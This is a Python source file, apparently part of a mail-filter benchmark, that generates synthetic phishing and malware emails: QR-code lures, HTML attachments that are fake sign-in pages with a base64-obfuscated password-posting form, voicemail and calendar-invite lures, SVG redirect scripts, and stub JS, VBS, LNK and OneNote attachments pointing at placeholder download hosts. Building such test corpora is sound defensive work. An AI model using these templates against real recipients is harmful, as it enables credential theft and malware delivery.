
"""Bad mail of set D that carries the attack in a file: QR codes as images, HTML login pages, voicemail lures,
malware archives (password in the body), script and shortcut files, and calendar-invite phishing."""

from __future__ import annotations

import base64
from datetime import timedelta

from bench.modern_mail_d.compose import draft_for, esc, family
from bench.modern_mail_d.files import exe_stub, ics, iso_stub, lnk_stub, onenote_stub, png, zip_of
from bench.modern_mail_d.sending import Ctx
from bench.modern_mail_d.spam_lures import landing, origin, send_bad
from bench.modern_mail_d.writer import File


def login_page(ctx: Ctx, brand: str, post_to: str, email: str) -> bytes:
    """A self-contained fake sign-in page that posts the password to `post_to` (obfuscated like real kits)."""
    action = base64.b64encode(post_to.encode()).decode()
    return (f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{esc(brand)} - Sign in</title></head><body>'
            f'<div style="width:360px;margin:80px auto;font-family:Segoe UI"><h2>{esc(brand)}</h2>'
            f'<p>Session expired. Sign in to view the document.</p><form id="f" method="post">'
            f'<input type="email" name="login" value="{esc(email)}"><input type="password" name="passwd" '
            'placeholder="Password"><button type="submit">Sign in</button></form></div><script>'
            f'document.getElementById("f").action=atob("{action}");</script></body></html>').encode()


@family("spam", "phishing", 6)
def f_phish_qr(ctx: Ctx, i: int) -> None:
    lang = ("en", "de", "zh", "en", "de", "en")[i]
    o = origin(ctx, i)
    v = ctx.person(lang)
    img = File(f"qr_{ctx.digits(4)}.png", "image/png", png(ctx.rng.randint(1, 10**6)), cid=f"qr{ctx.token(8)}@img")
    subj = {"en": ctx.pick(("Action required: set up MFA before Friday", "Your document is ready - scan to view",
                            "Benefits enrollment 2026")),
            "de": "Zwei-Faktor-Authentifizierung erforderlich", "zh": "您的邮箱需要重新验证"}[lang]
    d = draft_for(ctx, lang, subj, ctx.pick(("IT Security", "Microsoft Authenticator", "Admin")), o.from_addr,
                  [("", v.email)])
    if i % 2 == 0:  # only the image: no text a filter could read
        d.html = f'<html><body><img src="cid:{img.cid}" width="240" height="240"></body></html>'
        d.files.append(img)
    else:
        d.files.append(File(img.name, "image/png", img.data))
        d.text = {"en": "Scan the attached code with your phone camera.", "de": "Bitte scannen Sie den QR-Code.",
                  "zh": "请用手机扫描附件中的二维码完成验证。"}[lang]
    send_bad(ctx, i, lang, d, o, "QR-code phishing, image only")


@family("spam", "phishing", 6)
def f_phish_html_attach(ctx: Ctx, i: int) -> None:
    lang = "fr" if i % 3 == 1 else "en"
    o = origin(ctx, i)
    v = ctx.person(lang)
    brand = ctx.pick(("Microsoft", "Adobe Document Cloud", "Excel Online", "Webmail"))
    name = ctx.pick(("Remittance_Advice", "Payment_Copy", "INV_", "Facture_", "Statement-")) + ctx.digits(5) + \
        ctx.pick((".html", ".htm", ".shtml", ".xhtml"))
    d = draft_for(ctx, lang, {"en": ctx.pick(("Remittance advice", "Payment confirmation attached", "Outstanding "
                                              "invoice - copy attached")),
                              "fr": "Avis de paiement - copie jointe"}[lang],
                  ctx.pick(("Accounts Payable", "Finance", "Comptabilité")), o.from_addr, [("", v.email)])
    d.text = {"en": "Please see attached payment advice. Open in your browser to view.",
              "fr": "Veuillez trouver ci-joint l'avis de paiement."}[lang] if ctx.chance(0.7) else ""
    d.files.append(File(name, "text/html", login_page(ctx, brand, landing(ctx, o, "attacker"), v.email)))
    send_bad(ctx, i, lang, d, o, "HTML attachment that is a login page")


@family("spam", "phishing", 6)
def f_phish_voicemail(ctx: Ctx, i: int) -> None:
    o = origin(ctx, i)
    v = ctx.person("en")
    secs = ctx.rng.randint(18, 95)
    d = draft_for(ctx, "en", ctx.pick((f"Voice Message received (0:{secs:02d}) from +1 {ctx.digits(3)}-{ctx.digits(4)}",
                                       "You have a new voicemail", "Missed call: 1 new audio message")),
                  ctx.pick(("Voicemail Service", "RingCentral", "Teams Voicemail")), o.from_addr, [("", v.email)])
    body = f"You received a voice message.\nDuration: 0:{secs:02d}\nCaller: Unknown\n\n"
    if i % 3 == 0:
        page = login_page(ctx, "Microsoft", landing(ctx, o, "cloud"), v.email)
        d.files.append(File(f"VM_{ctx.digits(6)}.htm", "text/html", page))
        d.text = body + "Play the attached message in your browser."
    elif i % 3 == 1:
        svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="80"><text x="10" y="40">Playing audio...'
               f'</text><script>window.location.href="{landing(ctx, o, "attacker")}#{v.email}"</script></svg>')
        d.files.append(File(f"Audio_Message_{ctx.digits(4)}.svg", "image/svg+xml", svg.encode()))
        d.text = body
    else:
        url = landing(ctx, o, "short")
        d.html = (f'<html><body><p>{body.replace(chr(10), "<br>")}</p><p><a href="{esc(url)}">&#9654; Play Voice '
                  "Message</a></p></body></html>")
    send_bad(ctx, i, "en", d, o, "voicemail lure")


@family("spam", "malware", 6)
def f_malware_archive(ctx: Ctx, i: int) -> None:
    lang = ("en", "it", "pl", "en", "it", "en")[i]
    o = origin(ctx, i)
    v = ctx.person(lang)
    pw = ctx.pick(("2025", "Inv123", "7788", "doc2026", "abc123"))
    base = ctx.pick(("Invoice", "Fattura", "Faktura", "Order", "Shipping_Docs", "Quotation")) + "_" + ctx.digits(6)
    k = i % 3
    if k == 0:
        f = File(base + ".zip", "application/zip", zip_of([(base + ".exe", exe_stub(base))], encrypted=True))
    elif k == 1:
        f = File(base + ".iso", "application/octet-stream", iso_stub(base))
    else:
        f = File(base + ".img", "application/octet-stream", iso_stub(base[:16]))
    text = {"en": f"Hello,\n\nPlease find attached the documents you requested. The file is protected; password: "
                  f"{pw}\n\nRegards",
            "it": f"Buongiorno,\n\nin allegato la fattura richiesta. Il file è protetto, password: {pw}\n\nCordiali "
                  "saluti",
            "pl": f"Dzień dobry,\n\nw załączniku faktura. Hasło do pliku: {pw}\n\nPozdrawiam"}[lang]
    if k != 0:
        text = text.split("\n\n")[0] + "\n\n" + {"en": "Please see the attached documents and confirm.",
                                                 "it": "In allegato i documenti, attendo conferma.",
                                                 "pl": "W załączniku dokumenty do potwierdzenia."}[lang]
    d = draft_for(ctx, lang, ctx.pick((base.replace("_", " "), f"RE: {base}", "Documents", "Urgent")),
                  ctx.pick(("Accounts", "Amministrazione", "Księgowość", "")), o.from_addr, [("", v.email)])
    d.text = text
    d.files.append(f)
    send_bad(ctx, i, lang, d, o, "malware archive / disk image")


@family("spam", "malware", 6)
def f_malware_script(ctx: Ctx, i: int) -> None:
    o = origin(ctx, i)
    v = ctx.person("en")
    base = ctx.pick(("Payment_Details", "Scan_", "Order_Confirmation", "Contract_", "PO_")) + ctx.digits(5)
    dl = f"https://{ctx.pick(('cdn-update.invalid', 'files-share.test'))}/{ctx.token(8)}.dat"
    k = i % 6
    if k == 0:
        f = File(base + ".js", "application/javascript",
                 f'var s=new ActiveXObject("WScript.Shell");var u="{dl}";/* {ctx.token(40)} */\n'.encode())
    elif k == 1:
        f = File(base + ".vbs", "text/vbscript",
                 f'Set o = CreateObject("WScript.Shell")\r\nu = "{dl}"\r\n\' {ctx.token(30)}\r\n'.encode())
    elif k == 2:
        f = File(base + ".pdf.lnk", "application/octet-stream", lnk_stub("C:\\Windows\\System32\\cmd.exe"))
    elif k == 3:
        f = File(base + ".one", "application/octet-stream", onenote_stub("Double click to view document"))
    elif k == 4:
        f = File(base + ".zip", "application/zip", zip_of([(base + ".pdf.js", dl.encode()),
                                                           ("readme.txt", b"open the document")]))
    else:
        f = File(base + ".svg", "image/svg+xml",
                 f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[location.href="{dl}"]]></script></svg>'
                 .encode())
    d = draft_for(ctx, "en", ctx.pick(("Payment details", "Scanned document", "Order confirmation", "Signed contract",
                                       "Purchase order")), ctx.pick(("Accounts", "Scanner", "")), o.from_addr,
                  [("", v.email)])
    d.text = ctx.pick(("Please review the attached.", "See attachment.", "Kindly confirm receipt of the attached "
                       "document.", ""))
    d.files.append(f)
    send_bad(ctx, i, "en", d, o, f"malware file {f.name.rsplit('.', 1)[-1]}")


@family("spam", "phishing", 6)
def f_phish_calendar(ctx: Ctx, i: int) -> None:
    o = origin(ctx, i)
    v = ctx.person("en")
    url = landing(ctx, o, ctx.pick(("cloud", "attacker", "short")))
    start = ctx.when() + timedelta(days=1)
    what = ctx.pick(("Mandatory: 2026 Compensation Review", "Payroll verification meeting", "Urgent: document "
                     "signature required", "Annual security training"))
    desc = f"Please review the attached document before the meeting: {url}\nSign in with your work account."
    cal = ics(f"{ctx.token(24)}@{ctx.pick(('calendar.invalid', 'meet.test'))}", what, start, 30, o.from_addr,
              url, desc, (v.email,))
    d = draft_for(ctx, "en", f"Invitation: {what} @ {start:%a %b %d, %Y %H:%M}",
                  ctx.pick(("HR Calendar", "Human Resources", "Finance Team")), o.from_addr, [("", v.email)])
    d.text = f"You have been invited to: {what}\n\n{desc}\n"
    d.calendar = cal
    if ctx.chance(0.5):
        d.files.append(File("invite.ics", "application/ics", cal.encode()))
    send_bad(ctx, i, "en", d, o, "calendar-invite phishing")
